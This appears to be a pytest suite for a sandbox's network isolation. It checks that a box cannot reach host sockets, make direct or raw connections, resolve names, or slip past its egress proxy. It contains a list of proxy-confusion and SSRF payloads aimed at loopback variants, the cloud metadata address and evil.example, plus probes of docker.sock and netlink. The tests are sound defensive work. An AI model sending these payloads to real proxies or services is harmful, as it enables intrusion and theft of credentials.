"""A command that wants out: sockets of the host, direct connections, names, and requests made to confuse the proxy."""

from __future__ import annotations

import http.server
import json
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass, field

import pytest
from sandbox.boxes import Ground
from sandbox.gateway_client import KEYS, Connection
from sandbox.upstream import Handler, running
from switchyard_sandbox import BoxId, Command
from switchyard_sandbox.egress import AllowList, Refused, parse
from switchyard_sandbox.gateway import Endpoint, ensure_running

from hostile.attacks import python

pytestmark = pytest.mark.sandbox

_SAY = """
import json, os, socket, sys, urllib.parse
place = urllib.parse.urlsplit(os.environ['http_proxy'])
for request in json.load(sys.stdin):
    try:
        with socket.create_connection((place.hostname, place.port), timeout=10) as proxy:
            proxy.sendall(request.encode('latin-1'))
            answer = proxy.recv(4096)
            while b'\\r\\n' in answer and (more := proxy.recv(4096)):
                answer += more
    except OSError:
        answer = b''
    print(json.dumps(answer.decode('latin-1')), flush=True)
"""
"""Sends each request of a list to the box's proxy as it is, and prints what came back."""


@dataclass
class Site:
    """A web server at the host's loopback that remembers what it was asked."""

    port: int = 0
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.asked.append(f"{self.headers['Host']}{self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "4")
            self.end_headers()
            self.wfile.write(b"site")

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        made.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield made
        server.shutdown()
        thread.join()


def smuggled(port: int) -> list[str]:
    """Requests that some reader would take for one to another place, or that name no allowed one."""
    here = f"localhost:{port}"
    hosts = [
        *("127.0.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.1", "0", "[::1]", "::1"),
        *("[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "169.254.169.254", "metadata.google.internal", "evil.example"),
        *(
            "localhost.evil.example",
            "evil.localhost",
            "evil\0.localhost",
            "localhost%00",
            "localhost\x00",
            "l\xf6calhost",
        ),
        *("xn--lcalhost-n4a", "user@localhost", "localhost:80@evil.example", "localhost\t", "", "*", "localhost..evil"),
    ]
    return [
        *(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n" for host in hosts),
        *(f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n" for host in hosts),
        f"CONNECT {here} HTTP/1.1\r\nHost: evil.example:{port}\r\n\r\n",
        f"CONNECT {here}:80 HTTP/1.1\r\n\r\n",
        "CONNECT localhost:22 HTTP/1.1\r\n\r\n",
        f"GET http://{here}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        f"GET http://{here}/ HTTP/1.1\r\nHost: {here}\r\nHost: evil.example\r\n\r\n",
        f"GET http://{here}/ HTTP/1.1\r\nHost : {here}\r\n\r\n",
        f"GET http://{here}/ HTTP/1.1\r\nX: y\r\n folded: {here}\r\n\r\n",
        f"GET http://{here}/\rHost: evil.example HTTP/1.1\r\n\r\n",
        f"GET\thttp://{here}/\tHTTP/1.1\r\n\r\n",
        f"GET http://{here}/\x0bevil HTTP/1.1\r\n\r\n",
        f"GET http://{here}/ HTTP/1.1 HTTP/1.1\r\n\r\n",
        f"GET http://{here}/ HTTP/2.0\r\n\r\n",
        f"GET http://user:word@{here}/ HTTP/1.1\r\n\r\n",
        f"GET http://evil.example\\@{here}/ HTTP/1.1\r\n\r\n",
        f"GET http://{here}#@evil.example/ HTTP/1.1\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {here}\r\n\r\n",
        f"GET //{here}/ HTTP/1.1\r\nHost: {here}\r\n\r\n",
        f"GET gopher://{here}/ HTTP/1.1\r\n\r\n",
        f"POST http://{here}/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET {here}/ HTTP/1.1\r\n\r\n",
        f"POST http://{here}/ HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 0\r\n\r\nx",
        f"GET http://{here}/ HTTP/1.1\r\n\r\nGET http://evil.example/ HTTP/1.1\r\n\r\n",
        f"GET http://{here}/ HTTP/1.1\r\nX: {'y' * 40000}",
        "\x05\x01\x00",
        "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00\r\n\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ]


def test_h17_no_request_confuses_the_proxy(ground: Ground, site: Site) -> None:
    box = ground.box(ground.spec(ground.commit({"a": "a"}), network=(f"localhost:{site.port}",)))
    place = ground.driver.put(box, "say.py", _SAY.encode())
    requests = smuggled(site.port)
    command = Command(("python3", place), stdin=json.dumps(requests).encode(), timeout_s=120)
    finished = ground.driver.execute(box, command)
    assert finished.ok, finished
    answers = [json.loads(line) for line in finished.stdout.splitlines()]
    let_through = [
        (request, answer)
        for request, answer in zip(requests, answers, strict=True)
        if answer and not answer.startswith("HTTP/1.1 403 ")
    ]
    assert let_through == []
    assert site.asked == []
    assert [decision.decision for decision in finished.decisions] == ["refused"] * len(requests)


def test_h17_other_spellings_of_an_allowed_name_are_that_name(ground: Ground, site: Site) -> None:
    box = ground.box(ground.spec(ground.commit({"a": "a"}), network=(f"localhost:{site.port}",)))
    place = ground.driver.put(box, "say.py", _SAY.encode())
    requests = [
        f"GET http://{name}:{site.port}/x HTTP/1.1\r\n\r\n" for name in ("localhost", "LocalHost", "localhost.")
    ]
    finished = ground.driver.execute(
        box, Command(("python3", place), stdin=json.dumps(requests).encode(), timeout_s=60)
    )
    assert [json.loads(line)[-4:] for line in finished.stdout.splitlines()] == ["site"] * 3
    assert len(site.asked) == 3


@pytest.mark.parametrize("line", ["GET http://ok.com/\rX: y", "GET http://ok.com/\x1b", "G\x7fT http://ok.com/"])
def test_h17_a_first_line_holds_no_control_character(line: str) -> None:
    with pytest.raises(Refused):
        parse(f"{line} HTTP/1.1\r\nHost: ok.com".encode())


@pytest.mark.parametrize("address", ["168.63.129.16", "fd00:ec2::254", "100.100.100.200", "192.0.0.192"])
def test_h15_services_of_a_cloud_to_its_machines_are_refused(address: str) -> None:
    with pytest.raises(Refused, match="private"):
        AllowList(["ok.com"], [], lambda name, port: [address]).judge("ok.com", 443)


def test_h06_no_socket_of_the_host_is_reachable(ground: Ground, box: BoxId) -> None:
    name = f"\0switchyard-test-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(name)
        listener.listen()
        code = f"import socket\ntry: socket.socket(socket.AF_UNIX).connect({name!r}); print('in')\n"
        code += "except OSError: print('no')"
        assert python(ground, box, code) == "no\n"
    for place in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd", "/run/systemd", "/run/dbus"):
        assert ground.run(box, f"ls {place}").exit_code != 0
    found = ground.did(box, "find / -xdev -type s 2>/dev/null; find /run /var /tmp -type s 2>/dev/null; true")
    assert found == ""


@pytest.mark.parametrize("open_to", [(), ("example.com",)], ids=["no network", "a proxy"])
def test_h15_no_connection_leaves_the_box(ground: Ground, open_to: tuple[str, ...]) -> None:
    box = ground.box(ground.spec(ground.commit({"a": "a"}), network=open_to))
    addresses = [
        "127.0.0.1",
        "169.254.169.254",
        "::1",
        "::ffff:127.0.0.1",
        "8.8.8.8",
        "2001:4860:4860::8888",
        "0.0.0.0",
    ]
    addresses += _own_addresses()
    with socket.create_server(("0.0.0.0", 0)) as listener:
        listener.settimeout(0.3)
        code = (
            f"import socket\nfor address in {addresses!r}:\n for port in ({listener.getsockname()[1]}, 80):\n"
            "  try: socket.create_connection((address, port), timeout=2); print('out', address)\n"
            "  except OSError: pass"
        )
        assert python(ground, box, code) == ""
        with pytest.raises(TimeoutError):
            listener.accept()


def _own_addresses() -> list[str]:
    """Addresses of this machine that a packet could reach it at."""
    found = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            # Nothing is sent: it only asks which address would be used.
            probe.connect(("192.0.2.1", 9))
            found.append(str(probe.getsockname()[0]))
        except OSError:
            return found
    return found


@pytest.mark.parametrize("open_to", [(), ("example.com",)], ids=["no network", "a proxy"])
def test_h16_names_cannot_be_resolved_and_datagrams_reach_nobody(ground: Ground, open_to: tuple[str, ...]) -> None:
    box = ground.box(ground.spec(ground.commit({"a": "a"}), network=open_to))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("0.0.0.0", 0))
        receiver.settimeout(0.5)
        port = receiver.getsockname()[1]
        code = (
            f"import socket\nfor address in {['127.0.0.1', '255.255.255.255', *_own_addresses()]!r}:\n"
            " with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
            "  s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
            f"  try: s.sendto(b'x', (address, {port}))\n"
            "  except OSError: pass\n"
            "for name in ('example.com', 'secret.evil.example', 'host.docker.internal', 'gateway.docker.internal'):\n"
            " try: print(name, socket.getaddrinfo(name, 80))\n"
            " except OSError: pass"
        )
        assert python(ground, box, code) == ""
        with pytest.raises(TimeoutError):
            receiver.recv(10)


def test_h16_no_raw_or_packet_socket_and_no_ping(ground: Ground, box: BoxId) -> None:
    code = (
        "import socket\n"
        "for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (17, 2, 0x300)):\n"
        " try: socket.socket(family, kind, protocol); print('made', family, protocol)\n"
        " except OSError: pass\n"
        "try:\n s = socket.socket(2, 2, 1); s.sendto(b'\\x08' + bytes(15), ('8.8.8.8', 0)); print('pinged')\n"
        "except OSError: pass"
    )
    assert python(ground, box, code) == ""


def test_h16_the_network_cannot_be_changed(ground: Ground, box: BoxId) -> None:
    # RTM_NEWLINK, RTM_NEWADDR and RTM_NEWROUTE with an empty body: whoever may, is told EINVAL or ENODEV instead.
    code = (
        "import socket, struct\n"
        "for kind in (16, 20, 24):\n"
        " s = socket.socket(16, 3, 0); s.bind((0, 0)); s.settimeout(5)\n"
        " s.send(struct.pack('IHHII', 16 + 16, kind, 0x605, 1, 0) + bytes(16))\n"
        " print(struct.unpack_from('i', s.recv(4096), 16)[0])"
    )
    assert python(ground, box, code) == "-1\n-1\n-1\n"


def test_h18_an_answers_headers_do_not_repeat_the_key(ground: Ground) -> None:
    key = KEYS["anthropic"]
    with running() as upstream:

        def repeat(handler: Handler) -> None:
            handler.say(b"{}", X_Echo=f"got {handler.headers['x-api-key']}", X_Other="plain")

        upstream.answer = repeat
        endpoint = Endpoint("anthropic", "anthropic", upstream.url)
        gateway = ensure_running(ground.folder / "gateway-state", [endpoint], {"anthropic": key})
        try:
            token = gateway.issue({"task": "t1"}, ["anthropic"], 60)
            with closing(Connection(gateway)) as connection:
                connection.request("POST", "/anthropic/v1/messages", body=b"{}", headers={"x-api-key": token.secret})
                with connection.getresponse() as response:
                    headers = dict(response.getheaders())
        finally:
            gateway.stop()
    assert upstream.asked[0][2]["x-api-key"] == key
    assert headers["X-Echo"] == "got " + "*" * len(key)
    assert headers["X-Other"] == "plain"
